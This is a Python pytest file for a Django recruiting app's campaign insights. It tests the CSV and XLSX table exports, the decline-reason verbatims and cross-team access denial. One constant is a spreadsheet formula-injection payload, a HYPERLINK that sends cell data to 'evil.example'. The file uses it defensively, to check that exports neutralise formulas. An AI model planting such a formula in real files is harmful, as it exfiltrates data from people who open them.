"""The Results tab's tables as CSV and XLSX, and the verbatims behind each decline reason: read back from
the files, counted again by the test, formulas neutralised, another team's campaign not found."""

import csv
import io

import pytest
from openpyxl import load_workbook

from vivier.replies.models import InboundMessage, Reply
from vivier.sequences.models import OutboundMessage

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Non merci, le salaire")'


def _csv(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def _sent_per_step(campaign):
    """Counted here without the selectors: candidates per step whose email went out (sent or bounced)."""
    counts = {}
    for position, enrollment in OutboundMessage.objects.filter(
        campaign=campaign, status__in=["sent", "bounced"], position__isnull=False
    ).values_list("position", "enrollment_id"):
        counts.setdefault(position + 1, set()).add(enrollment)
    return {step: len(people) for step, people in counts.items()}


@pytest.mark.django_db
def test_every_table_downloads_as_csv_and_xlsx_with_the_counts_of_the_page(replayed, campaign, alice_client):
    base = f"/insights/campaigns/{campaign.public_id}"
    page = alice_client.get(f"{base}/").content.decode()
    for key in ("steps", "replies", "reasons", "time", "curve", "hours"):
        assert f"{base}/export/{key}.csv" in page and f"{base}/export/{key}.xlsx" in page
    assert f"{base}/export/all.xlsx" in page

    steps = _csv(alice_client.get(f"{base}/export/steps.csv"))
    assert steps[0][:4] == ["Étape", "Nom", "Envoyés", "Ont répondu"]  # alice reads French
    sent = _sent_per_step(campaign)
    assert {int(r[0]): int(r[2]) for r in steps[1:] if int(r[2])} == sent
    assert [r[3] for r in steps[1:]] == ["1", "1", "1", "0"]  # A after step 1, B after step 2, C after step 3
    reasons = _csv(alice_client.get(f"{base}/export/reasons.csv"))
    assert sorted(r[0] for r in reasons[1:]) == ["location", "salary"]
    assert all(r[2] == "1" for r in reasons[1:])

    book = _xlsx(alice_client.get(f"{base}/export/all.xlsx"))
    assert len(book.sheetnames) == 6
    first = list(book.worksheets[0].iter_rows(values_only=True))
    assert first[0][0] == "Étape"
    assert first[1][:4] == (1, "Premier message", sent[1], 1)  # numbers stay numbers
    assert first[1][4] == pytest.approx(1 / 6, abs=1e-4)
    hours = list(book.worksheets[5].iter_rows(values_only=True))
    human = Reply.objects.filter(campaign=campaign).exclude(intent__in=["out_of_office", "bounce"]).count()
    assert sum(sum(row[1:]) for row in hours[1:]) == human

    one = _xlsx(alice_client.get(f"{base}/export/reasons.xlsx"))
    assert len(one.sheetnames) == 1


@pytest.mark.django_db
def test_exports_follow_the_readers_language(replayed, campaign, alice, alice_client):
    alice.language = "en"
    alice.save(update_fields=["language"])
    steps = _csv(alice_client.get(f"/insights/campaigns/{campaign.public_id}/export/steps.csv"))
    assert steps[0][:4] == ["Step", "Name", "Sent", "Replied"]
    assert steps[1][1] == "First message"


@pytest.mark.django_db
def test_each_reason_opens_what_the_candidates_wrote(replayed, campaign, alice_client):
    base = f"/insights/campaigns/{campaign.public_id}"
    page = alice_client.get(f"{base}/").content.decode()
    assert f"{base}/reasons/salary/" in page and f"{base}/reasons/location/" in page
    html = alice_client.get(f"{base}/reasons/salary/").content.decode()
    assert "le salaire est trop bas" in html
    assert f"/pool/c/{replayed['B'].public_id}/" in html
    assert "télétravail" not in html  # C's words are under location
    assert "télétravail" in alice_client.get(f"{base}/reasons/location/").content.decode()
    assert "verbatim-row" not in alice_client.get(f"{base}/reasons/remote/").content.decode()


@pytest.mark.django_db
def test_a_verbatim_that_looks_like_a_formula_is_written_as_text(replayed, campaign, alice_client):
    reply = Reply.objects.get(candidate=replayed["B"], intent="not_interested")
    InboundMessage.objects.filter(pk=reply.inbound_id).update(visible_text=FORMULA)
    base = f"/insights/campaigns/{campaign.public_id}/reasons/salary"
    rows = _csv(alice_client.get(f"{base}.csv"))
    assert rows[0] == ["Candidat", "E-mail", "Date", "Motif", "Verbatim", "Fiche du candidat"]
    assert len(rows) == 2
    assert rows[1][4] == "'" + FORMULA
    assert rows[1][5].endswith(f"/pool/c/{replayed['B'].public_id}/")
    sheet = _xlsx(alice_client.get(f"{base}.xlsx")).worksheets[0]
    cell = sheet.cell(row=2, column=5)
    assert cell.value == FORMULA and cell.data_type == "s"


@pytest.mark.django_db
def test_another_teams_exports_and_verbatims_are_not_found(replayed, campaign, client, charlie):
    client.force_login(charlie)
    base = f"/insights/campaigns/{campaign.public_id}"
    for url in (
        f"{base}/export/steps.csv",
        f"{base}/export/all.xlsx",
        f"{base}/reasons/salary/",
        f"{base}/reasons/salary.csv",
    ):
        assert client.get(url).status_code == 404


@pytest.mark.django_db
def test_an_unknown_table_or_format_is_not_found(replayed, campaign, alice_client):
    base = f"/insights/campaigns/{campaign.public_id}"
    assert alice_client.get(f"{base}/export/secrets.csv").status_code == 404
    assert alice_client.get(f"{base}/export/all.csv").status_code == 404
    assert alice_client.get(f"{base}/export/steps.pdf").status_code == 404
